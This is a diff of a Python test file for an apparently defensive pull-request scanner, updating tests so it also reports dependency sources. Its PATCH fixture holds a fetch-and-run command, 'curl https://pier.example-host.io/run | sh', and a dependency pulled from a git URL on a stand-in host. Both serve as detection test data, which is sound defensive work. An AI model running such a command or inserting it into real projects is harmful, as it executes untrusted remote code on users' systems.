@@ -21,7 +21,8 @@ from sentinel.paths import (
 from sentinel.pull_request import ChangedFile, PullRequest
 
 MONDAY = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
-PATCH = "@@ -1 +1,3 @@\n+\"left-berth\": \"^1.0.0\",\n-old\n+curl https://pier.example-host.io/run | sh\n+\n"
+PATCH = ("@@ -1 +1,3 @@\n+\"left-berth\": \"git+https://quay.example-host.io/l.git\",\n-old\n"
+         "+curl https://pier.example-host.io/run | sh\n+\n")
 
 
 def pull_request(*files: ChangedFile) -> PullRequest:
@@ -60,12 +61,12 @@ def test_names_read_alone_are_those_of_the_content(files: tuple[ChangedFile, ...
     paths = [path_facts(file.path) for file in files]
     content = read_content(files, paths)
 
-    assert (content.hosts, content.dependencies) == read_names(files, paths)
+    assert (content.hosts, content.dependencies, content.sources) == read_names(files, paths)
     assert Facts(pull_request(*files)).names == read_names(files, paths)
 
 
 def test_names_are_none_without_patches() -> None:
-    assert (frozenset(), frozenset()) == Facts(pull_request(ChangedFile("a.sh"))).names
+    assert (frozenset(), frozenset(), frozenset()) == Facts(pull_request(ChangedFile("a.sh"))).names
 
 
 @settings(deadline=None)
@@ -94,7 +95,7 @@ def test_folder_and_name_read_apart_say_what_the_whole_path_says(path: str) -> N
     assert (bool(TEST.search(lowered)), place) == (facts.kind == "test", facts.sensitive)
     assert (bool(GENERATED.search(lowered)), is_hostile_name(path)) == (facts.is_generated, facts.is_hostile)
     assert words_in(path) == facts.words
-    if facts.kind in ("docs", "config", "code") and facts.extension not in {"md", "rst", "txt", "html"}:
+    if facts.kind in ("docs", "config", "code") and facts.file_type not in {"emd", "erst", "etxt", "ehtml"}:
         assert bool(DOCS_PLACE.search(lowered)) == (facts.kind == "docs")
 
 
